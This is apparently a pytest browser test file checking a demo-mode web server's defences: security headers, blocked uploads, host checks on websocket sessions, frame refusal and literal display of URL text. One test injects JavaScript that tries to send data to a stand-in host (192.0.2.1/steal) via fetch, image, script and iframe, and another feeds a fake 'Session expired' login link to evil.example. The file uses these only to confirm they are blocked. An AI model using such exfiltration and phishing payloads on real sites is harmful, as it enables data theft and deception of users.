"""What a stranger meets at a server in demo mode, in a real browser and beside it."""

from __future__ import annotations

import http.client
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from serving import MISSING, context_of, eventually, look, served, settle, visit

from slicing.studies.store import BUNDLED_RUN, RUN_FILE, bundled_run

pytestmark = [
    pytest.mark.browser,
    pytest.mark.timeout(300),
    pytest.mark.skipif(bool(MISSING), reason=f"not installed: {', '.join(MISSING)}"),
]


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """With a run that somebody else made: the bundled one, stored."""
    home = tmp_path_factory.mktemp("home")
    folder = home / "runs" / bundled_run().key
    folder.mkdir(parents=True)
    (folder / RUN_FILE).write_bytes((BUNDLED_RUN / RUN_FILE).read_bytes())
    return home


@pytest.fixture(scope="module")
def address(home: Path) -> Iterator[str]:
    with served(home, "--demo-mode") as address:
        yield address


@pytest.fixture(scope="module")
def listened(browser: Any) -> tuple[Any, list[str]]:
    """Open a page; give it with what it says and what goes wrong on it, from the first moment on."""
    page, said = context_of(browser).new_page(), []
    page.on("console", lambda message: said.append(message.text))
    page.on("pageerror", lambda error: said.append(str(error)))
    return page, said


def ask(address: str, method: str, path: str, **headers: str) -> http.client.HTTPResponse:
    """The answer, of which only status and headers are read."""
    with closing(http.client.HTTPConnection(urlsplit(address).netloc, timeout=60)) as connection:
        connection.request(method, path, headers=headers)
        with connection.getresponse() as answer:
            return answer


@pytest.mark.parametrize("path", ["/", "/_stcore/health", "/profile", "/no/such/page"])
def test_every_answer_has_the_headers(address: str, path: str) -> None:
    headers = ask(address, "GET", path).headers
    assert "frame-ancestors 'self'" in headers["content-security-policy"]
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] and headers["permissions-policy"]


def test_nothing_is_uploaded(address: str) -> None:
    answer = ask(address, "PUT", "/_stcore/upload_file/session/file")
    assert answer.status == 403
    assert "content-security-policy" in answer.headers


@pytest.mark.parametrize(("host", "status"), [("evil.example.org", 403), ("localhost", 101)])
def test_other_names_open_no_session(address: str, host: str, status: int) -> None:
    answer = ask(
        address,
        "GET",
        "/_stcore/stream",
        Host=host,
        Upgrade="websocket",
        Connection="Upgrade",
        **{"Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version": "13"},
    )
    assert answer.status == status


@pytest.mark.parametrize(
    "path", ["shrink", "profile", "tune", "compare", "study", "runs", "notes", "?present=1"]
)
def test_pages_work_under_the_headers(address: str, listened: tuple[Any, list[str]], path: str) -> None:
    page, said = listened
    said.clear()
    page.goto(f"{address}/{path}")
    settle(page)
    if path == "?present=1":  # the story begins with a picture of its own
        page.locator("canvas").first.wait_for()
    elif path not in ("runs", "notes"):
        page.locator(".js-plotly-plot .main-svg").first.wait_for()
    assert not [line for line in said if "Content Security Policy" in line or "Error:" in line]
    assert page.get_by_test_id("stException").count() == 0


def test_what_an_address_says_is_shown_as_it_is(address: str, browser: Any) -> None:
    said = (
        "x' :red[**Session expired.**] [Log in](https://evil.example) www.evil.example https://evil.example"
    )
    page = look(browser, f"{address}/compare?compare={quote(said)}")
    warning = page.get_by_test_id("stAlert").filter(has_text="no longer stored").first
    warning.wait_for()
    assert said in warning.inner_text().replace("\N{WORD JOINER}", "")
    assert page.locator("a[href*=evil], [data-testid=stAlert] strong").count() == 0


def test_what_is_slipped_into_a_page_reaches_nobody(address: str, browser: Any) -> None:
    page = visit(browser, f"{address}/notes")
    asked: list[str] = []
    failed: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("requestfailed", lambda request: failed.append(f"{request.url} {request.failure}"))
    blocked = page.evaluate(
        """async () => {
          const blocked = [];
          document.addEventListener("securitypolicyviolation", e => blocked.push(e.effectiveDirective));
          await fetch("http://192.0.2.1/steal").catch(() => {});
          new Image().src = "http://192.0.2.1/steal.png";
          const script = document.createElement("script");
          script.textContent = "window.stolen = true";
          document.body.append(script);
          const frame = document.createElement("iframe");
          frame.src = "http://192.0.2.1/";
          document.body.append(frame);
          const given = Date.now() + 20000;
          while (blocked.length < 4 && Date.now() < given) await new Promise(done => setTimeout(done, 100));
          return [blocked.sort(), Boolean(window.stolen)];
        }"""
    )
    assert blocked == [["connect-src", "frame-src", "img-src", "script-src-elem"], False]
    stolen = [url for url in asked if "192.0.2.1" in url]
    eventually(page, lambda: all(f"{url} csp" in failed for url in stolen), "every such request fails")


def test_another_site_shows_it_in_no_frame(address: str, browser: Any) -> None:
    page = browser.new_page()
    # The same server under another name is another origin.
    page.goto(address.replace("127.0.0.1", "localhost") + "/_stcore/health")
    page.set_content(f'<iframe src="{address}/profile"></iframe>')
    page.wait_for_timeout(3000)
    assert page.frame_locator("iframe").get_by_test_id("stApp").count() == 0
    page.close()


def test_the_model_page_offers_the_models_and_no_paths(address: str, browser: Any) -> None:
    page = look(browser, f"{address}/model")
    page.get_by_role("combobox", name="Model").wait_for()
    assert page.get_by_role("combobox").count() == 1
    assert page.get_by_role("textbox").count() == 0
    assert page.get_by_role("button", name="Unload").count() == 0


def test_a_run_of_others_is_opened_by_its_whole_key_only(address: str, browser: Any) -> None:
    key = bundled_run().key
    page = look(browser, f"{address}/compare?compare={key}")
    page.get_by_text(f"Run {key}").first.wait_for()
    page.goto(f"{address}/compare?compare={key[:6]}")
    page.get_by_text("no longer stored").wait_for()


def test_budgets_and_texts_are_bounded_on_the_profile_page(address: str, browser: Any, home: Path) -> None:
    page = look(browser, f"{address}/profile")
    page.get_by_text("Measure SmolLM2-135M-Instruct (demo)").first.click()
    windows = page.get_by_label("Windows", exact=True)
    assert windows.get_attribute("max") == "16"
    page.get_by_role("combobox", name="Text", exact=True).click()
    page.get_by_role("option").first.wait_for()
    assert page.get_by_role("option").count() == 1
    assert str(home) not in page.content()
